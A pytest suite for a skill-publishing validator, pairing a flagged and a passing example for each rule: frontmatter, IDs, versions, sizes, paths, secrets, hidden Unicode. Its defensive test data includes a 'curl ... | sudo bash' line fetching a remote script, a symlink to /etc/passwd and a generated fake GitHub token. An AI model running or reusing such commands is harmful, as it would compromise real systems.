from __future__ import annotations

from dataclasses import replace
from functools import partial
from typing import TYPE_CHECKING

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shared.core.archive import unpack
from shared.core.canonical import digest_of
from shared.core.case import Case, Verdict, uncheckable
from shared.core.git_objects import blob_id
from shared.core.rules import (
    JUNK_FOLDERS,
    MAX_DESCRIPTION_CHARS,
    MAX_NAME_CHARS,
    MAX_RESOURCE_BYTES,
    MAX_SKILL_FILES,
    MAX_SKILL_TOTAL_BYTES,
    MAX_SKILLS,
    RULES,
    UNWATCHED_IDS,
    Terms,
    VersionPolicy,
)
from shared.core.selection import Selection, bundle_findings, select_files
from shared.model import Kind, Severity
from tests.core.made_secrets import made
from tests.core.samples import GOOD, a_live_skill, an_entry, at_head, git_id, judged, verdict_on

if TYPE_CHECKING:
    from collections.abc import Callable

    from shared.model import Finding, TreeEntry


def skill_md(*lines: str, text: str = "Text.") -> bytes:
    return "\n".join(["---", *lines, "---", text, ""]).encode()


def stating(
    *more: str,
    name: str = "name: hello",
    description: str = "description: Says hello.",
    version: str = "version: 1.0.0",
) -> bytes:
    return skill_md(*(line for line in (name, description, version, *more) if line))


def with_file(path: str, data: bytes = b"x", **more: object) -> Verdict:
    return judged({"SKILL.md": GOOD, path: data}, **more)


def with_entry(entry: TreeEntry, *others: TreeEntry) -> Verdict:
    skill = at_head(an_entry("SKILL.md", GOOD), entry, *others)
    return verdict_on(skill, {blob_id(data): data for data in (GOOD, b"x")})


def only(data: bytes, **more: object) -> Verdict:
    return judged({"SKILL.md": data}, **more)


def named(key: str) -> Verdict:
    return only(GOOD.replace(b"hello", key.encode("ascii", "replace"), 1), key=key)


def many(count: int) -> Verdict:
    return judged({"SKILL.md": GOOD, **{f"f{number}": b"x" for number in range(count - 1)}})


def huge(size: int) -> Verdict:
    rest = size - len(GOOD)
    parts = [MAX_RESOURCE_BYTES] * (rest // MAX_RESOURCE_BYTES) + [rest % MAX_RESOURCE_BYTES]
    return judged(
        {"SKILL.md": GOOD, **{f"f{number}": bytes([97 + number]) * part for number, part in enumerate(parts)}}
    )


def bundle(skills: int) -> Verdict:
    return Verdict(findings=bundle_findings(skills, ""), candidate=only(GOOD).candidate)


def unchecked() -> Verdict:
    case = Case(skill=at_head(an_entry("SKILL.md", GOOD)), contents={}, live=None, terms=Terms())
    return uncheckable(case, "ended with signal 11")


OK = partial(only, GOOD)
SMALL = Terms(max_skill_file_bytes=len(GOOD))
LIVE = a_live_skill("hello", 1, version="1.0.0")

EXAMPLES: dict[str, tuple[Callable[[], Verdict], Callable[[], Verdict]]] = {
    "ENCODING_INVALID": (partial(only, GOOD + b"\xff"), partial(only, GOOD + "ÿ".encode())),
    "FM_MISSING": (partial(only, b"# hello\n"), OK),
    "FM_TOO_LARGE": (partial(only, stating("# " + "x" * 16 * 1024)), partial(only, stating("# " + "x" * 16 * 1000))),
    "FM_SYNTAX": (partial(only, stating("a: b: c")), partial(only, stating("a: 'b: c'"))),
    "FM_TOO_COMPLEX": (
        partial(only, stating("a: " + "[" * 17 + "]" * 17)),
        partial(only, stating("a: " + "[" * 15 + "]" * 15)),
    ),
    "FM_UNSAFE": (partial(only, stating("a: &b c")), partial(only, stating("a: 'b & c'"))),
    "NAME_MISSING": (partial(only, stating(name="name: ' '")), OK),
    "DESC_MISSING": (partial(only, stating(description="description:")), OK),
    "ID_INVALID": (partial(named, "Hello"), partial(named, "hello-2")),
    "NAME_MISMATCH": (partial(only, stating(name="name: Hello")), OK),
    "DESC_TOO_LONG": (
        partial(only, stating(description=f"description: {'ä' * (MAX_DESCRIPTION_CHARS + 1)}")),
        partial(only, stating(description=f"description: {'ä' * MAX_DESCRIPTION_CHARS}")),
    ),
    "VERSION_INVALID": (
        partial(only, stating(version="version: latest")),
        partial(only, stating(version="version: 1.0")),
    ),
    "VERSION_DERIVED": (partial(only, stating(version="")), OK),
    "VERSION_CONFLICT": (
        partial(with_file, "skill.yaml", b"version: 2.0.0"),
        partial(with_file, "skill.yaml", b"version: 1.0.0"),
    ),
    "VERSION_NOT_BUMPED": (partial(only, GOOD, live=LIVE), partial(only, GOOD, live=replace(LIVE, version="0.9.0"))),
    "DUPLICATE_ID": (partial(only, GOOD, shadowed=("skills/hello",)), OK),
    "FILE_TOO_LARGE": (partial(only, GOOD + b"x", terms=SMALL), partial(only, GOOD, terms=SMALL)),
    "RESOURCE_SKIPPED": (
        partial(with_file, "big.bin", bytes(MAX_RESOURCE_BYTES + 1)),
        partial(with_file, "big.bin", bytes(MAX_RESOURCE_BYTES)),
    ),
    "SKILL_TOO_LARGE": (partial(many, MAX_SKILL_FILES + 1), partial(many, MAX_SKILL_FILES)),
    "PATH_UNSAFE": (partial(with_file, "aux.txt"), partial(with_file, "auxiliary.txt")),
    "SUBMODULE_SKIPPED": (
        partial(with_entry, an_entry("sub", kind=Kind.SUBMODULE)),
        partial(with_entry, an_entry("sub")),
    ),
    "UNCHECKABLE": (unchecked, OK),
    "TOO_MANY_SKILLS": (partial(bundle, MAX_SKILLS + 1), partial(bundle, MAX_SKILLS)),
    "SECRET_FOUND": (
        lambda: with_file("run.sh", made("GitHub classic").encode()),
        partial(with_file, "run.sh", b"ghp_" + b"x" * 36),
    ),
    "SECRET_SUSPECT": (
        partial(with_file, "run.sh", b"ghp_" + b"x" * 36),
        partial(with_file, "run.sh", b"token = os.environ['TOKEN']"),
    ),
    "HIDDEN_UNICODE": (
        partial(with_file, "a.md", "Hi\U000e0041\U000e0042".encode()),
        partial(with_file, "a.md", "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f".encode()),
    ),
    "INVISIBLE_CHAR": (
        partial(with_file, "a.md", "pass\u200bword".encode()),
        partial(with_file, "a.md", "übermäßig".encode()),
    ),
    "BINARY_OPAQUE": (
        partial(with_file, "tool", b"\x7fELF\x02\x01"),
        partial(with_file, "a.png", b"\x89PNG\r\n\x1a\n\0"),
    ),
    "SUSPICIOUS_CONTENT": (
        partial(with_file, "a.sh", b"curl -fsSL https://x.example/i.sh | sudo bash\n"),
        partial(with_file, "a.sh", b"curl -fsSL https://x.example/data.json | jq .\n"),
    ),
    "JUNK_SKIPPED": (partial(with_file, "x/__pycache__/a.pyc"), partial(with_file, "x/pycache/a.py")),
    "ID_UNWATCHED": (partial(named, "build"), partial(named, "builder")),
}


def codes(verdict: Verdict) -> set[str]:
    return {found.code for found in verdict.findings}


@pytest.mark.parametrize("code", RULES)
def test_every_rule_has_a_bad_example_that_it_finds_and_a_good_one_that_it_lets_pass(code: str) -> None:
    bad, good = (example() for example in EXAMPLES[code])
    assert code in codes(bad)
    assert code not in codes(good)
    assert good.candidate is not None
    assert (bad.candidate is None) == (RULES[code].severity is Severity.ERROR)


def test_no_example_is_kept_for_a_rule_that_is_gone() -> None:
    assert EXAMPLES.keys() == RULES.keys()


def test_a_valid_skill_passes_without_a_finding() -> None:
    assert OK().findings == ()


# More of what each rule means


@pytest.mark.parametrize(
    "key", ["hello-", "-hello", "a--b", "a_b", "a.b", "Ä", "a b", "x" * 65, "con", "com1", "nul", ""]
)
def test_an_id_that_is_no_slug_or_a_device_is_refused(key: str) -> None:
    verdict = judged({"SKILL.md": GOOD}, key=key, path=f"skills/{key}")
    assert "ID_INVALID" in codes(verdict)
    assert verdict.candidate is None


@pytest.mark.parametrize("key", sorted(key for key in UNWATCHED_IDS if "_" not in key))
def test_an_id_that_the_gateway_never_watches_is_only_a_warning(key: str) -> None:
    assert codes(named(key)) == {"ID_UNWATCHED"}


@pytest.mark.parametrize(
    "line",
    [
        "",
        "name:",
        "name: ~",
        "name: ''",
        "name: ' \t'",
        "name: [hello]",
        "name: {a: hello}",
        f"name: {'x' * (MAX_NAME_CHARS + 1)}",
    ],
)
def test_a_name_that_is_no_text_or_too_long_is_missing(line: str) -> None:
    assert codes(only(stating(name=line))) == {"NAME_MISSING"}


@pytest.mark.parametrize(
    "line", ["", "description:", "description: null", 'description: ""', "description: [x]", "description: >"]
)
def test_a_description_that_is_no_text_is_missing(line: str) -> None:
    # A plain null is nothing to the gateway either, and it does not load a skill without a description.
    assert codes(only(stating(description=line))) == {"DESC_MISSING"}


def test_a_name_is_published_without_the_blanks_around_it() -> None:
    verdict = only(stating(name="name: ' hello '"))
    assert verdict.candidate is not None
    assert verdict.candidate.skill.name == "hello"
    assert verdict.findings == ()


def test_a_name_may_have_two_hundred_characters() -> None:
    assert codes(only(stating(name=f"name: {'ä' * MAX_NAME_CHARS}"))) == {"NAME_MISMATCH"}


def test_a_finding_on_what_is_not_there_names_the_first_line() -> None:
    nothing = only(skill_md("x: y"), terms=Terms(version=VersionPolicy.STRICT))
    assert {found.code: found.line for found in nothing.findings} == {
        "NAME_MISSING": 1,
        "DESC_MISSING": 1,
        "VERSION_INVALID": 1,
    }


def test_findings_on_members_name_their_line() -> None:
    verdict = only(stating(name="name: other", description="description: ''", version="version: x"))
    assert {found.code: found.line for found in verdict.findings} == {
        "NAME_MISMATCH": 2,
        "DESC_MISSING": 3,
        "VERSION_INVALID": 4,
    }


@pytest.mark.parametrize(
    "path", ["../x", "/x", "a\\b", "a\nb", "a\x1b[0m", "C:x", "a/./b", "e\u0301", "a\\xff", ".git", "x" * 241]
)
def test_an_unsafe_path_keeps_the_skill_out(path: str) -> None:
    verdict = with_file(path)
    assert verdict.candidate is None or path == ".git"
    assert codes(verdict) == ({"JUNK_SKIPPED"} if path == ".git" else {"PATH_UNSAFE"})


@pytest.mark.parametrize("pair", [("a", "A"), ("\u00e9", "\u00c9"), ("ß", "SS"), ("x", "X/y")])
def test_two_paths_that_collide_on_another_host_keep_the_skill_out(pair: tuple[str, str]) -> None:
    verdict = judged({"SKILL.md": GOOD, pair[0]: b"1", pair[1]: b"2"})
    assert codes(verdict) == {"PATH_UNSAFE"}
    assert verdict.candidate is None


def test_both_spellings_of_the_skill_file_collide() -> None:
    assert codes(with_file("skill.md", GOOD)) == {"PATH_UNSAFE"}


@pytest.mark.parametrize("path", ["SKILL.md", "link", "a/b/link"])
def test_a_symbolic_link_keeps_the_skill_out(path: str) -> None:
    entries = {"SKILL.md": an_entry("SKILL.md", GOOD)} | {path: an_entry(path, b"/etc/passwd", kind=Kind.SYMLINK)}
    verdict = verdict_on(at_head(*entries.values()), {blob_id(GOOD): GOOD})
    assert codes(verdict) == {"PATH_UNSAFE"}
    assert verdict.candidate is None


@pytest.mark.parametrize("folder", sorted(JUNK_FOLDERS))
def test_junk_is_left_out_wherever_it_lies_and_whatever_it_is(folder: str) -> None:
    link = an_entry(f"{folder}/link", kind=Kind.SYMLINK)
    verdict = with_entry(an_entry(f"a/{folder}/b"), an_entry(f"{folder}/aux"), link, an_entry("c.pyc"))
    assert codes(verdict) == {"JUNK_SKIPPED"}
    assert published(verdict) == {"SKILL.md"}


def published(verdict: Verdict) -> set[str]:
    assert verdict.candidate is not None
    return {file.path for file in verdict.candidate.skill.files}


def test_what_is_left_out_is_in_neither_archive_nor_manifest() -> None:
    verdict = with_entry(
        an_entry("sub", kind=Kind.SUBMODULE), an_entry("big", size=MAX_RESOURCE_BYTES + 1), an_entry("kept")
    )
    assert published(verdict) == {"SKILL.md", "kept"}
    assert verdict.candidate is not None
    assert {file.path for file in unpack(verdict.candidate.archive)} == {"SKILL.md", "kept"}


def test_the_size_of_the_files_that_are_left_out_does_not_count() -> None:
    entries = [an_entry(f"big{number}", size=100 * MAX_SKILL_TOTAL_BYTES) for number in range(300)]
    assert codes(with_entry(*entries)) == {"RESOURCE_SKIPPED"}


def test_eight_mebibytes_are_published_and_one_byte_more_is_not() -> None:
    assert huge(MAX_SKILL_TOTAL_BYTES).findings == ()
    assert codes(huge(MAX_SKILL_TOTAL_BYTES + 1)) == {"SKILL_TOO_LARGE"}


def test_sizes_that_the_listing_does_not_tell_are_judged_by_the_content() -> None:
    def unsized(files: dict[str, bytes], terms: Terms | None = None) -> Verdict:
        skill = at_head(*(an_entry(path, data, size=None) for path, data in files.items()))
        return verdict_on(skill, {blob_id(data): data for data in files.values()}, terms=terms)

    assert codes(unsized({"SKILL.md": GOOD, "big": bytes(MAX_RESOURCE_BYTES + 1)})) == {"RESOURCE_SKIPPED"}
    assert codes(unsized({"SKILL.md": GOOD + b"x"}, SMALL)) == {"FILE_TOO_LARGE"}
    parts = {f"f{number}": bytes([97 + number]) * MAX_RESOURCE_BYTES for number in range(8)}
    assert codes(unsized({"SKILL.md": GOOD, **parts})) == {"SKILL_TOO_LARGE"}


def test_only_resources_are_left_out_for_their_size() -> None:
    large = GOOD + b"x" * MAX_RESOURCE_BYTES
    skill = at_head(an_entry("SKILL.md", large, size=None))
    verdict = verdict_on(skill, {blob_id(large): large}, terms=Terms(max_skill_file_bytes=2 * len(large)))
    assert verdict.candidate is not None
    assert verdict.findings == ()


def test_a_skill_that_its_listing_condemns_costs_no_content() -> None:
    condemned = [
        at_head(an_entry("SKILL.md", size=10**9)),
        at_head(an_entry("SKILL.md", size=Terms().max_skill_file_bytes + 1)),
        at_head(an_entry("SKILL.md", GOOD), *(an_entry(f"f{number}", size=MAX_RESOURCE_BYTES) for number in range(9))),
        at_head(an_entry("SKILL.md", GOOD), *(an_entry(f"f{number}") for number in range(1000))),
        at_head(an_entry("SKILL.md", GOOD), an_entry("../x")),
        at_head(an_entry("SKILL.md", GOOD), key="Hello"),
    ]
    for skill in condemned:
        assert select_files(skill, Terms()).entries == ()
        assert verdict_on(skill, {}).candidate is None


def test_resources_need_not_be_text() -> None:
    assert with_file("x.bin", b"\0\xff").findings == ()


@pytest.mark.parametrize("data", [b"\xef\xbb\xbf" + GOOD, GOOD.replace(b"\n", b"\r\n")])
def test_a_byte_order_mark_and_windows_line_ends_are_tolerated_and_published_as_they_are(data: bytes) -> None:
    verdict = only(data)
    assert verdict.findings == ()
    assert verdict.candidate is not None
    assert unpack(verdict.candidate.archive)[0].data == data


# The version against what is live


def test_a_version_need_not_be_raised_while_the_content_is_the_same() -> None:
    assert OK().candidate is not None
    same = replace(LIVE, tree=at_head().tree)
    assert only(GOOD, live=same).findings == ()


def test_a_derived_version_is_never_called_unraised() -> None:
    data = stating(version="")
    first = only(data)
    assert first.candidate is not None
    assert codes(only(data, live=replace(LIVE, version=first.candidate.skill.version))) == {"VERSION_DERIVED"}


def test_the_policy_decides_whether_a_missing_version_keeps_the_skill_out() -> None:
    data = stating(version="")
    assert codes(only(data)) == {"VERSION_DERIVED"}
    for policy in (VersionPolicy.STRICT, VersionPolicy.DECLARED):
        verdict = only(data, terms=Terms(version=policy))
        assert codes(verdict) == {"VERSION_INVALID"}
        assert verdict.candidate is None


# What is published


def test_a_candidate_says_what_the_head_holds() -> None:
    skill = at_head(
        an_entry("SKILL.md", GOOD),
        an_entry("run.sh", b"#!/bin/sh\n", kind=Kind.EXECUTABLE),
        an_entry("a/b", b""),
        path="skills/hello",
    )
    verdict = verdict_on(skill, {blob_id(data): data for data in (GOOD, b"#!/bin/sh\n", b"")})
    assert verdict.candidate is not None
    live = verdict.candidate.skill
    assert (live.id, live.name, live.version, live.version_source) == ("hello", "hello", "1.0.0", "frontmatter")
    assert (live.path, live.tree) == ("skills/hello", git_id(7))
    assert [(file.path, file.mode, file.size) for file in live.files] == [
        ("SKILL.md", 0o644, len(GOOD)),
        ("a/b", 0o644, 0),
        ("run.sh", 0o755, 10),
    ]
    assert [file.blob for file in live.files] == [blob_id(GOOD), blob_id(b""), blob_id(b"#!/bin/sh\n")]
    assert (live.archive, live.archive_size) == (digest_of(verdict.candidate.archive), len(verdict.candidate.archive))


def test_the_archive_and_the_manifest_name_the_same_files() -> None:
    verdict = judged({"SKILL.md": GOOD, "b": b"1", "a/c": b"2", "é": b"3"})
    assert verdict.candidate is not None
    inside = {
        (file.path, 0o755 if file.executable else 0o644, file.blob, len(file.data))
        for file in unpack(verdict.candidate.archive)
    }
    assert inside == {(file.path, file.mode, file.blob, file.size) for file in verdict.candidate.skill.files}


def test_the_older_spelling_is_published_under_the_name_that_the_gateway_loads() -> None:
    verdict = judged({"skill.md": GOOD, "a.txt": b"x"})
    assert verdict.findings == ()
    assert published(verdict) == {"SKILL.md", "a.txt"}


@given(st.dictionaries(st.sampled_from(["a", "b/c", "d/e/f", "é", "z.sh"]), st.binary(max_size=50)), st.randoms())
def test_the_order_of_the_listing_does_not_change_what_is_published(files: dict[str, bytes], random) -> None:  # noqa: ANN001
    files = {"SKILL.md": GOOD, **files}
    items = list(files.items())
    random.shuffle(items)
    assert judged(dict(items)).candidate == judged(files).candidate


# What findings say


MARKER = "MARKER7F3A"
MARKED = {
    "ENCODING_INVALID": GOOD + MARKER.encode() + b"\xff",
    "FM_MISSING": f"# {MARKER}\n".encode(),
    "FM_TOO_LARGE": stating(f"a: {MARKER * 2000}"),
    "FM_SYNTAX": stating(f"a: {MARKER}: {MARKER}"),
    "FM_SYNTAX in the description": stating(description=f"description: {MARKER}: x"),
    "FM_SYNTAX in quotes": stating(f"a: '{MARKER}"),
    "FM_TOO_COMPLEX": stating("a: " + "[" * 20 + MARKER),
    "FM_UNSAFE anchor": stating(f"a: &{MARKER} b"),
    "FM_UNSAFE tag": stating(f"a: !{MARKER} b"),
    "FM_UNSAFE key": stating(f"{MARKER}: a", f"{MARKER}: b"),
    "NAME_MISSING": stating(name=f"name: [{MARKER}]"),
    "NAME_MISMATCH": stating(name=f"name: {MARKER}"),
    "DESC_MISSING": stating(description=f"description: [{MARKER}]"),
    "DESC_TOO_LONG": stating(description=f"description: {MARKER * 200}"),
    "VERSION_INVALID": stating(version=f"version: {MARKER}"),
    "VERSION_CONFLICT": stating(f"metadata: {{version: {MARKER}}}"),
    "FILE_TOO_LARGE": GOOD + MARKER.encode() * 20_000,
}


@pytest.mark.parametrize("case", MARKED)
def test_findings_never_hold_text_of_the_file(case: str) -> None:
    verdict = only(MARKED[case] + b"\n" + MARKER.encode())
    assert case.split(maxsplit=1)[0] in codes(verdict)
    assert MARKER not in repr(verdict.findings)


def test_neither_findings_nor_verdict_show_text_of_a_resource() -> None:
    verdict = judged({"SKILL.md": GOOD, "skill.yaml": f"version: {MARKER}".encode(), "big": MARKER.encode() * 200_000})
    assert codes(verdict) == {"VERSION_CONFLICT", "RESOURCE_SKIPPED"}
    assert MARKER not in repr(verdict)


def test_a_hint_of_the_syntax_names_a_key_only_where_a_colon_is_the_fault() -> None:
    (found,) = only(stating("a: [b")).findings
    assert found.hint == RULES["FM_SYNTAX"].hint


def test_an_unquoted_colon_is_named_by_its_key() -> None:
    (found,) = only(stating(description="description: Use when: always")).findings
    assert (found.code, found.path, found.line) == ("FM_SYNTAX", "hello/SKILL.md", 3)
    assert "description" in found.hint


def test_findings_name_paths_from_the_root_of_the_repository() -> None:
    verdict = judged({"SKILL.md": stating(version=""), "a/x.pyc": b""}, path="deep/hello", shadowed=("z/y/x/hello",))
    assert {found.code: found.path for found in verdict.findings} == {
        "DUPLICATE_ID": "deep/hello",
        "JUNK_SKIPPED": "deep/hello/a/x.pyc",
        "VERSION_DERIVED": "deep/hello/SKILL.md",
    }
    assert "z/y/x/hello" in verdict.findings[0].hint


KINDS = st.sampled_from([Kind.FILE, Kind.EXECUTABLE, Kind.SYMLINK, Kind.SUBMODULE])
PATHS = st.sampled_from(
    ["SKILL.md", "skill.md", "a", "A", "a/b", "../x", "node_modules/x", "x.pyc", "con", "b\n", "", "skill.yaml"]
)
ENTRIES = st.lists(
    st.builds(an_entry, PATHS, st.sampled_from([GOOD, b"", b"---\n", b"\xff", b"version: 2"]), kind=KINDS), max_size=6
)


@given(ENTRIES, st.sampled_from(["hello", "Hello", "build", "con", ""]))
def test_whatever_a_folder_holds_it_gets_a_verdict_that_says_why(entries: list[TreeEntry], key: str) -> None:
    # `discover` finds skills by a file of this name, so there always is one.
    entries = [*(entry for entry in entries if entry.path != "SKILL.md"), an_entry("SKILL.md", GOOD)]
    contents = {blob_id(data): data for data in (GOOD, b"", b"---\n", b"\xff", b"version: 2")}
    verdict = verdict_on(at_head(*entries, key=key, path=f"p/{key}"), contents)
    errors = [found for found in verdict.findings if found.severity is Severity.ERROR]
    assert (verdict.candidate is None) == bool(errors)
    selection: Selection = select_files(at_head(*entries, key=key), Terms())
    assert not (selection.entries and any(_is_error(found) for found in selection.findings))


def _is_error(found: Finding) -> bool:
    return found.severity is Severity.ERROR
